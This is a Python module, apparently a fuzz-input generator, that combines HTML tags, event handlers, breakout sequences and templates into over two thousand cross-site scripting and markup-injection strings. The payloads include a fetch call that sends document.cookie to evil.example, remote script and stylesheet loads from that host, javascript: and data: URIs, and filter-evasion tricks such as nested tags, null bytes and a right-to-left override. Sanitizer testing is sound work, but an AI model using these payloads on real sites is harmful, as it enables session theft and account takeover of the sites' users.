"""Strings that run script, load pictures or break out of markup where something is not escaped.

Built from the patterns that public lists share: tags × handlers × quotings × breakouts × disguises.
"""

from __future__ import annotations

from itertools import product

TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "input autofocus",
    "details open",
    "iframe",
    "a href=#",
    "math",
    "div",
)
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
CALLS = (
    "alert(1)",
    "fetch('//evil.example/?'+document.cookie)",
    "&#97;lert(1)",
    "eval(atob('YWxlcnQoMSk='))",
)
BREAKOUTS = (
    "",
    '">',
    "'>",
    "</td></table>",
    "</pre></div>",
    "</code>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "`",
    "|",
    "\\",
)
WHOLE = (
    "<script>{c}</script>",
    "<ScRiPt >{c}</sCrIpT>",
    "<scr<script>ipt>{c}</script>",
    "<script src=//evil.example/x.js></script>",
    "<svg><script>{c}</script></svg>",
    "<svg/onload={c}>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<object data=javascript:{c}></object>",
    "<embed src=javascript:{c}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href=//evil.example/>",
    "<form action=javascript:{c}><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<a href='javascript:{c}'>x</a>",
    "[x](javascript:{c})",
    "[x](data:text/html,<script>{c}</script>)",
    "![x](http://evil.example/?{c})",
    '![x](x " onerror={c})',
    "<http://evil.example/{c}>",
    "<javascript:{c}>",
    "[x]: http://evil.example '{c}'\n\n[x]",
    "http://evil.example/{c}",
    "www.evil.example/{c}",
    '```"><script>{c}</script>\nx\n```',
    "**<img src=x onerror={c}>**",
    "`<img src=x onerror={c}>`",
    "| <img src=x onerror={c}> |\n| --- |\n| <b>x</b> |",
    "\u202e<img src=x onerror={c}>\u202c",
    "<img\x00 src=x onerror={c}>",
    "<img\x0csrc=x\x0conerror={c}>",
    "\x1b]8;;http://evil.example\x07{c}\x1b]8;;\x07",
    "&lt;img src=x onerror={c}&gt;",
    "＜img src=x onerror={c}＞",
    "$$\\href{{javascript:{c}}}{{x}}$$",
    "{{{{constructor.constructor('{c}')()}}}}",
    '<!--<img src="--><img src=x onerror={c}//">',
    "<![CDATA[<img src=x onerror={c}>]]>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
)


def hostile_strings() -> list[str]:
    """More than two thousand different ones."""
    tags = [f"{b}<{t} {h}={c}>" for b, t, h, c in product(BREAKOUTS, TAGS, HANDLERS, CALLS[:2])]
    attributes = [f"{q} {h}={c} x={q}" for q, h, c in product(("'", '"', "`", ""), HANDLERS, CALLS)]
    whole = [b + w.format(c=c) for b, w, c in product(BREAKOUTS[:6], WHOLE, CALLS)]
    return list(dict.fromkeys([*tags, *attributes, *whole]))
